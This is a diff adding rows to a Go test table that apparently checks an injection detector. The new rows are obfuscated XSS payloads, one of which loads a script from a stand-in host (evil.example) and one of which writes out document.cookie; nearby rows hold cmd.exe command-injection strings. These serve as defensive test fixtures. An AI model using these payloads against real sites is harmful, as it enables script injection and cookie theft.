@@ -396,6 +396,19 @@ func TestInjectionShapes(t *testing.T) {
 		{`/db/index.html`, InPath, ""},
 		{`/assets/site.css`, InPath, ""},
 		{`/releases/app-1.2.tar.gz`, InPath, ""},
+		// XSS: handlers as the whole value, calls wrapped or after closing
+		// tags, templates tagging call/apply, tag-split names, octal
+		// escapes, zero-padded entities, Function by name in brackets.
+		{`onload=x=>$.getScript('//evil.example/2.js')`, InQuery, "xss.html"},
+		{`onfocus=;var{cookie}=document;write(cookie)`, InQuery, "xss.html"},
+		{`AutoFocus/>/OnFocus=top?.["ale"+"rt"](1)/`, InQuery, "xss.html"},
+		{`onload=true`, InQuery, ""},
+		{`(prompt())`, InQuery, "xss.call"},
+		{`'</style></script>alert(1)</script>`, InQuery, "xss.call"},
+		{"Reflect.set.call`${location}${'href'}${name}`", InQuery, "xss.call"},
+		{`"o<x>nmouseover=alert<x>(1)//`, InQuery, "xss.html"},
+		{`a<b>c</b> and x<sup>2</sup>`, InField, ""},
+		{`[]['filter']['constructor']`, InQuery, "xss.dom"},
 		// cmd.exe FOR and IF.
 		{`for /f "delims=" %i in ('cmd /c whoami') do @echo %i`, InQuery, "rce.shell"},
 		{`& FOR %_ IN (a,b,c) DO cmd`, InQuery, "rce.shell"},
